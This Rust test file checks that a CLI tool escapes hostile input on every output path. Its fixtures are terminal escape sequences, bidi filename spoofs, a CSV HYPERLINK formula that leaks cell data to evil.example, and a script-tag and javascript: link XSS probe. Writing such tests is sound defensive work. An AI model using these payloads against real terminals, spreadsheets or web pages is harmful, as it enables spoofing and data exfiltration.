//! Issue 11 items 1 and 2: no text from data reaches a terminal raw, on any path, and no CSV
//! path leaves a formula live. A database is seeded with hostile text in every kind of item
//! (escape sequences that retitle the window or clear the screen, a bell, C1 controls, bidi
//! overrides and isolates, line and paragraph separators, DEL), then every command that
//! prints data runs on it through the real binary: people's formats must show none of it
//! raw, on standard output or standard error; JSON must carry it as `\u` escapes that read
//! back as the same text; CSV on a terminal must show it, not send it.

mod common;

use common::{Db, stderr, stdout, success};

/// Retitles the window, rings, clears the screen, a C1 CSI and NEL, a right-to-left
/// override and an isolate, the two Unicode separators, DEL and a backspace.
const H: &str = "A\u{1b}]2;PWNED\u{7}B\u{1b}[2J\u{9b}1m\u{85}\u{202e}gpj.exe\u{2066}C\u{2028}D\u{2029}\u{7f}\u{8}E";

/// The first character a terminal would obey or hide, if any: controls other than a line
/// break or tab, DEL, C1, bidi controls, zero-width marks, the Unicode separators.
fn obeyed(text: &str) -> Option<(usize, char)> {
    text.char_indices().find(|&(_, c)| {
        let u = c as u32;
        (u < 0x20 && c != '\n' && c != '\t')
            || (0x7f..=0x9f).contains(&u)
            || (0x200b..=0x200f).contains(&u)
            || (0x2028..=0x202e).contains(&u)
            || (0x2060..=0x2069).contains(&u)
            || u == 0x061c
            || u == 0xfeff
    })
}

fn assert_shown_not_obeyed(what: &str, stream: &str, text: &str) {
    if let Some((at, c)) = obeyed(text) {
        let from = text[..at]
            .char_indices()
            .rev()
            .nth(30)
            .map_or(0, |(i, _)| i);
        panic!(
            "`{what}` wrote U+{:04X} raw to {stream}, after {:?}",
            c as u32,
            &text[from..at]
        );
    }
}

/// A database with `H` in the text people read of every kind, a chase's "to" included.
fn hostile_db() -> Db {
    let db = Db::empty();
    let owner = format!("owner={H}");
    db.ok(&[
        "add",
        "report",
        &format!("title={H}"),
        &format!("force={H}"),
        "published_on=2026-10-01",
    ]);
    db.ok(&[
        "add",
        "letter",
        &format!("subject={H}"),
        &format!("sender={H}"),
        &format!("body={H}\n{H}"),
        &format!("reference={H}"),
        &owner,
        "received_on=2026-10-01",
        "due_on=2026-11-01",
    ]);
    db.ok(&[
        "add",
        "recommendation",
        "report_id=RPT-1",
        &format!("text={H}"),
        &owner,
        "due_on=2026-11-10",
    ]);
    db.ok(&["add", "ask", "letter_id=LET-1", &format!("text={H}")]);
    db.ok(&["add", "board", &format!("name={H}"), &format!("chair={H}")]);
    db.ok(&["add", "meeting", "board_id=BRD-1", "held_on=2026-12-01"]);
    db.ok(&[
        "add",
        "action",
        "board_id=BRD-1",
        "meeting_id=MTG-1",
        &format!("text={H}"),
        &owner,
        "due_on=2026-11-20",
    ]);
    db.ok(&["note", "REC-1", H]);
    db.ok(&["chase", "REC-1", "--to", H, "--by", "email", "--note", H]);
    db.ok(&["set", "REC-1", &format!("owner={H}x")]);
    db
}

/// Every command that prints data, in people's formats, and what it prints to both streams.
#[test]
fn no_command_prints_hostile_text_raw_for_people() {
    let db = hostile_db();
    let letter = db.file("letter.txt");
    std::fs::write(
        &letter,
        format!("Dear Sir\n\nRequest about {H}\n\n1. Release {H}.\n\nYours sincerely\n\n{H}\n"),
    )
    .unwrap();
    let letter = letter.to_str().unwrap().to_string();
    let odd_file = db.file(&format!("backup-{}.sqlite", H.replace('/', "")));
    let odd_file = odd_file.to_str().unwrap().to_string();
    let folder = db.file("csv");
    let folder = folder.to_str().unwrap().to_string();
    let long = H.repeat(50);
    let mut runs: Vec<Vec<String>> = Vec::new();
    let mut run = |args: &[&str]| runs.push(args.iter().map(|s| s.to_string()).collect());
    for kind in [
        "reports",
        "letters",
        "recommendations",
        "asks",
        "boards",
        "meetings",
        "actions",
        "notes",
        "responses",
        "owners",
        "deadlines",
    ] {
        run(&["list", kind]);
    }
    run(&["list", "recommendations", "--owner", H]);
    for id in [
        "RPT-1", "LET-1", "REC-1", "ASK-1", "BRD-1", "MTG-1", "ACT-1", "NOTE-1", "NOTE-2",
    ] {
        run(&["show", id]);
        run(&["history", id]);
    }
    run(&["import", "--dry-run", &letter]);
    run(&["import", &letter]);
    run(&["note", "LET-1", H]);
    run(&["set", "ACT-1", &format!("text={H}!")]);
    run(&["complete", "ASK-1", "--evidence", H]);
    run(&["undo"]);
    run(&["redo"]);
    run(&["delete", "NOTE-1"]);
    run(&["undo"]);
    run(&["check"]);
    run(&["backup", &odd_file]);
    run(&["export", "--format", "csv", "-o", &folder]);
    // Refusals quote what was given: an ID, a kind, a field's value, a file.
    run(&["show", &format!("REC-{H}")]);
    run(&["list", H]);
    run(&["set", "REC-1", &format!("status={H}")]);
    run(&["set", "REC-1", &format!("due_on={H}")]);
    run(&["set", "REC-1", &format!("{H}=1")]);
    run(&["set", "REC-1", &format!("owner={long}")]);
    run(&["add", "letter", &format!("direction={H}"), "subject=x"]);
    run(&["chase", "REC-1", "--to", H, "--by", H]);
    run(&["import", &odd_file]);
    run(&["import", &format!("/nonexistent/{H}.txt")]);
    run(&["backup", &odd_file]);
    run(&["export", "-o", &odd_file]);
    let mut printed = 0;
    for args in runs {
        let what = args.join(" ");
        let out = db.cmd().args(&args).output().expect("run oversight");
        let (so, se) = (stdout(&out), stderr(&out));
        assert!(!se.contains("panicked"), "`{what}` panicked: {se}");
        assert_shown_not_obeyed(&what, "standard output", &so);
        assert_shown_not_obeyed(&what, "standard error", &se);
        if so.contains('␛') || se.contains('␛') {
            printed += 1;
        }
    }
    // The hostile text was there to be shown: most of these printed it.
    assert!(
        printed > 30,
        "only {printed} commands showed the hostile text"
    );
}

/// A chase's "to" in `show` (the path that retitled the terminal).
#[test]
fn show_shows_a_chases_to_as_text() {
    let db = Db::with_recommendation();
    db.ok(&[
        "chase",
        "REC-1",
        "--to",
        "\u{1b}]2;PWNED\u{7}",
        "--by",
        "email",
    ]);
    let shown = db.ok(&["show", "REC-1"]);
    assert_shown_not_obeyed("show REC-1", "standard output", &shown);
    assert!(shown.contains("␛]2;PWNED␇"), "{shown}");
}

/// JSON keeps the text exactly, with everything a terminal would obey as `\u` escapes, on
/// every JSON path (the export included).
#[test]
fn every_json_path_escapes_what_a_terminal_would_obey() {
    let db = hostile_db();
    for args in [
        vec!["list", "letters", "--format", "json"],
        vec!["list", "responses", "--format", "json"],
        vec!["list", "owners", "--format", "json"],
        vec!["list", "deadlines", "--format", "json"],
        vec!["show", "LET-1", "--format", "json"],
        vec!["show", "REC-1", "--format", "json"],
        vec!["history", "LET-1", "--format", "json"],
        vec!["export", "--format", "json"],
    ] {
        let what = args.join(" ");
        let out = success(&db.run(&args), &what);
        assert_shown_not_obeyed(&what, "standard output", &out);
        assert!(out.contains("\\u001b]2;PWNED\\u0007"), "{what}: {out}");
        let doc: serde_json::Value = serde_json::from_str(&out).expect("valid JSON");
        assert!(
            json_strings(&doc).iter().any(|s| s.contains(H)),
            "`{what}` should carry the text exactly"
        );
    }
    // The file an export writes too: it is restored from, and read in terminals.
    let file = db.file("all.json");
    db.ok(&["export", "-o", file.to_str().unwrap()]);
    let written = std::fs::read_to_string(&file).unwrap();
    assert_shown_not_obeyed("export -o FILE", "the file", &written);
    let copy = Db::unmade();
    copy.ok(&["import", file.to_str().unwrap()]);
    assert_eq!(copy.show("LET-1")["subject"], H, "restored exactly");
}

fn json_strings(v: &serde_json::Value) -> Vec<String> {
    match v {
        serde_json::Value::String(s) => vec![s.clone()],
        serde_json::Value::Array(a) => a.iter().flat_map(json_strings).collect(),
        serde_json::Value::Object(o) => o.values().flat_map(json_strings).collect(),
        _ => Vec::new(),
    }
}

/// CSV to a pipe or a file is the text as stored; to a terminal, it is shown as the tables
/// show it.
#[cfg(unix)]
#[test]
fn csv_on_a_terminal_is_shown_not_obeyed() {
    let db = hostile_db();
    for args in [
        vec!["list", "letters", "--format", "csv"],
        vec!["list", "recommendations", "--format", "csv"],
        vec!["list", "responses", "--format", "csv"],
        vec!["list", "owners", "--format", "csv"],
        vec!["export", "--format", "csv", "--kind", "letters"],
        vec!["list", "letters", "--format", "json"],
        vec!["export", "--format", "json"],
        vec!["list", "letters"],
    ] {
        let what = args.join(" ");
        let (code, text) = on_terminal(&db, &args);
        assert_eq!(code, Some(0), "`{what}` on a terminal: {text}");
        assert_shown_not_obeyed(&what, "the terminal", &text);
        assert!(text.contains("PWNED"), "`{what}` printed its rows: {text}");
    }
    // Through a pipe, CSV is the data as stored (for a script), formulas defused.
    let piped = db.ok(&["list", "letters", "--format", "csv"]);
    assert!(piped.contains(H), "{piped:?}");
}

/// Runs the binary with a pseudo-terminal as its standard output (and error); returns its
/// exit code and every byte it wrote there.
#[cfg(unix)]
fn on_terminal(db: &Db, args: &[&str]) -> (Option<i32>, String) {
    use std::io::Read;
    use std::os::fd::{FromRawFd, OwnedFd};
    let (mut master, mut slave) = (0, 0);
    let size = libc::winsize {
        ws_row: 50,
        ws_col: 200,
        ws_xpixel: 0,
        ws_ypixel: 0,
    };
    // SAFETY: openpty writes two new descriptors, which are owned from here on.
    let opened = unsafe {
        libc::openpty(
            &mut master,
            &mut slave,
            std::ptr::null_mut(),
            std::ptr::null(),
            &size,
        )
    };
    assert_eq!(opened, 0, "openpty");
    let (master, slave) = unsafe { (OwnedFd::from_raw_fd(master), OwnedFd::from_raw_fd(slave)) };
    let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin("oversight"));
    for (k, v) in db.cmd().get_envs() {
        match v {
            Some(v) => cmd.env(k, v),
            None => cmd.env_remove(k),
        };
    }
    let mut child = cmd
        .args(db.cmd().get_args())
        .args(args)
        .stdin(std::process::Stdio::null())
        .stdout(slave.try_clone().unwrap())
        .stderr(slave)
        .spawn()
        .expect("run oversight");
    // Read while it writes (a terminal holds only a few kilobytes); the end of the output is
    // an error (EIO) once the child has closed its side.
    let reader = std::thread::spawn(move || {
        let mut file = std::fs::File::from(master);
        let mut bytes = Vec::new();
        let mut buf = [0u8; 8192];
        loop {
            match file.read(&mut buf) {
                Ok(0) | Err(_) => break,
                Ok(n) => bytes.extend_from_slice(&buf[..n]),
            }
        }
        bytes
    });
    let status = child.wait().expect("wait");
    drop(cmd);
    let bytes = reader.join().unwrap();
    // The terminal itself ends each line with a carriage return (onlcr).
    let text = String::from_utf8_lossy(&bytes).replace("\r\n", "\n");
    (status.code(), text)
}

/// Item 2: every CSV path defuses a formula, `list --format csv` included.
#[test]
fn no_csv_path_leaves_a_formula_live() {
    let db = Db::with_recommendation();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    db.ok(&[
        "set",
        "REC-1",
        &format!("text={formula}"),
        "owner=@SUM(1+1)",
    ]);
    db.ok(&[
        "add",
        "letter",
        &format!("subject={formula}"),
        "sender=+1-2",
        "received_on=2026-10-01",
        "owner=-2+3",
    ]);
    let live = |what: &str, csv: &str| {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(true)
            .from_reader(csv.as_bytes());
        let mut cells = 0;
        for record in reader.records() {
            for cell in record.expect("valid CSV").iter() {
                cells += 1;
                assert!(
                    !cell.starts_with(['=', '+', '-', '@']),
                    "`{what}` left a live formula: {cell:?}\n{csv}"
                );
            }
        }
        assert!(cells > 0, "`{what}` wrote rows");
        assert!(csv.contains("'=HYPERLINK("), "`{what}`: {csv}");
    };
    for args in [
        vec!["list", "recommendations", "--format", "csv"],
        vec!["list", "letters", "--format", "csv"],
        vec!["list", "responses", "--format", "csv"],
        vec!["list", "deadlines", "--format", "csv"],
        vec!["export", "--format", "csv", "--kind", "recommendations"],
    ] {
        let what = args.join(" ");
        live(&what, &db.ok(&args));
    }
    let owners = db.ok(&["list", "owners", "--format", "csv"]);
    assert!(owners.contains("'@SUM(1+1)"), "{owners}");
    let folder = db.file("csv");
    db.ok(&["export", "--format", "csv", "-o", folder.to_str().unwrap()]);
    for kind in ["recommendations", "letters"] {
        let text = std::fs::read_to_string(folder.join(format!("{kind}.csv"))).unwrap();
        live(&format!("export -o FOLDER: {kind}.csv"), &text);
    }
}

/// `hostile_db` with what the reports show besides: a meeting held before today with an
/// action raised at it, a note on that action, a RAG rating, a recommendation completed with
/// hostile evidence, and markup that HTML and Markdown must show as text.
fn hostile_reports_db() -> Db {
    let db = hostile_db();
    let markup = "<script>alert(1)</script> [x](javascript:y) &amp;";
    db.ok(&[
        "add",
        "meeting",
        "board_id=BRD-1",
        "held_on=2026-10-01",
        "status=held",
    ]);
    db.ok(&[
        "add",
        "action",
        "board_id=BRD-1",
        "meeting_id=MTG-2",
        &format!("text={H} {markup}"),
        &format!("owner={H}"),
        "due_on=2026-10-20",
    ]);
    db.ok(&["note", "ACT-2", &format!("{H} {markup}")]);
    db.ok(&["set", "REC-1", "rag=red"]);
    db.ok(&[
        "add",
        "recommendation",
        "report_id=RPT-1",
        &format!("text={H}"),
        &format!("owner={H}"),
        "due_on=2026-11-30",
    ]);
    db.ok(&["complete", "REC-2", "--evidence", &format!("{H} {markup}")]);
    db
}

/// Issue 11 item 1 for the documents of issue 13: the board pack, the minutes, the digest
/// and the calendar, on a pipe as a script or a mail client would take them. Each format's
/// writer has made the text safe for its format (controls visible, HTML and Markdown
/// escaped, JSON `\u` escapes, iCalendar TEXT escapes): nothing a terminal would obey gets
/// through, and the hostile text is there, shown.
#[test]
fn reports_show_hostile_text_and_obey_none_of_it() {
    let db = hostile_reports_db();
    let check = |args: &[&str]| -> String {
        let what = args.join(" ");
        let out = db.run(args);
        let (so, se) = (stdout(&out), stderr(&out));
        assert!(out.status.success(), "`{what}` failed: {se}");
        assert_shown_not_obeyed(&what, "standard output", &so);
        assert_shown_not_obeyed(&what, "standard error", &se);
        assert!(
            so.contains("PWNED"),
            "`{what}` showed the hostile text: {so}"
        );
        so
    };
    for args in [
        vec!["pack"],
        vec!["pack", "--format", "html", "--board", "BRD-1"],
        vec!["pack", "--format", "markdown"],
        vec!["pack", "--format", "markdown", "--board", "BRD-1"],
        vec!["minutes", "MTG-1"],
        vec!["minutes", "MTG-2", "--format", "markdown"],
        vec!["minutes", "MTG-2", "--format", "html"],
        vec!["digest", "--within", "30"],
        vec!["digest", "--within", "30", "--format", "markdown"],
    ] {
        let text = check(&args);
        let what = args.join(" ");
        assert!(text.contains('␛'), "`{what}` shows an escape as ␛: {text}");
        if args.contains(&"html") || args == ["pack"] {
            assert!(!text.contains("<script"), "`{what}` escapes HTML: {text}");
            assert!(text.contains("&lt;script&gt;"), "`{what}`: {text}");
        }
        if args.contains(&"markdown") && text.contains("script") {
            assert!(
                text.contains("\\<script\\>") && text.contains("\\[x\\]"),
                "`{what}` escapes Markdown: {text}"
            );
        }
    }
    // The board pack shows the board's name, the action's text, its owner and the note.
    let pack = check(&["pack", "--board", "BRD-1"]);
    assert!(pack.contains("␛]2;PWNED␇B␛[2J"), "{pack}");
    // JSON: valid, every control a `\u` escape, the owner's name exactly as stored.
    let json = check(&["digest", "--within", "30", "--format", "json"]);
    let doc: serde_json::Value = serde_json::from_str(&json).expect("valid JSON");
    assert!(
        json_strings(&doc).iter().any(|s| s.contains(H)),
        "the digest's JSON carries the owner exactly: {json}"
    );
    // iCalendar to standard output: lines end in CRLF (RFC 5545), everything else is TEXT as
    // 3.3.11 escapes it, with controls made visible first.
    let out = db.run(&["calendar"]);
    assert!(out.status.success(), "calendar: {}", stderr(&out));
    assert_shown_not_obeyed("calendar", "standard error", &stderr(&out));
    let ics = stdout(&out);
    assert!(ics.contains("\r\n") && ics.contains("PWNED"), "{ics:?}");
    let unfolded = ics.replace("\r\n ", "").replace("\r\n", "\n");
    assert_shown_not_obeyed("calendar", "standard output", &unfolded);
    let summary = unfolded
        .lines()
        .find(|l| l.starts_with("SUMMARY:ACT-2"))
        .unwrap_or_else(|| panic!("ACT-2's event: {unfolded}"));
    assert!(summary.contains("␛]2\\;PWNED␇"), "{summary}");
    // And as a file.
    let file = db.file("deadlines.ics");
    db.ok(&["calendar", "-o", file.to_str().unwrap()]);
    let written = std::fs::read_to_string(&file).unwrap();
    assert_eq!(written, ics, "the file is what standard output had");
}
